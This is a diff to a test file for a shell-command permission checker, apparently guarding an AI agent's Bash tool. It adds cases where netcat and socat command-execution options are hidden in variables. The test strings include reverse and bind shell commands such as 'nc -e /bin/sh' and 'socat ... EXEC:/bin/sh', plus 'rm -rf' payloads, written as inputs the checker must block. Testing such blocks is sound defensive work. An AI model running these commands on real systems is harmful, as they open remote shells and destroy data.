@@ -121,7 +121,7 @@ describe('R32-7 socat\'s EXEC and SYSTEM, netcat\'s -e and -c join a command to 
   const RULES: Rules = { allow: ['Bash(socat:*)', 'Bash(nc:*)', 'Bash(ncat:*)', 'Bash(netcat:*)'], deny: ['Bash(rm *)', `Read(${EVIL}/**)`] };
   test.each(MODES)('%s', (mode) => {
     for (const command of ["socat TCP-LISTEN:8000,fork EXEC:'rm -rf v'", "socat - SYSTEM:'rm -rf v'", "socat - system:'cd /tmp && rm -rf v'", `socat - exec:${EVIL}/x,pty,stderr`, "socat 'TCP:10.0.0.1:80!!EXEC:rm -rf v' -", "nc -c 'rm -rf v' 10.0.0.1 80", `nc -e ${EVIL}/x 10.0.0.1 80`, "ncat --exec 'rm -rf v' 10.0.0.1 80", "ncat --sh-exec='rm -rf v' 10.0.0.1 80"]) denied(command, mode, RULES);
-    for (const command of ['nc -e /bin/sh 10.0.0.1 80', 'nc -nve /bin/sh 10.0.0.1 80', 'netcat -lp 9000 -e /bin/bash', 'socat TCP:10.0.0.1:80 EXEC:/bin/sh', 'socat - "$ADDRESS"', 'ncat --lua-exec ./x.lua 10.0.0.1 80']) notAllowed(command, mode, RULES);
+    for (const command of ['nc -e /bin/sh 10.0.0.1 80', 'nc -nve /bin/sh 10.0.0.1 80', 'netcat -lp 9000 -e /bin/bash', 'socat TCP:10.0.0.1:80 EXEC:/bin/sh', 'socat - "$ADDRESS"', 'ncat --lua-exec ./x.lua 10.0.0.1 80', 'nc $E /bin/sh 10.0.0.1 80', 'nc "$OPTS" 10.0.0.1 80', 'ncat $X 10.0.0.1 80']) notAllowed(command, mode, RULES);
   });
   test('ordinary connections stay allowed', () => {
     for (const command of ['nc -zv localhost 80', 'nc -l -p 8080', 'socat TCP-LISTEN:8000,fork TCP:localhost:80', 'socat - UNIX-CONNECT:./app.sock']) expect(shell(command, 'default', RULES).verdict, command).toBe('allow');
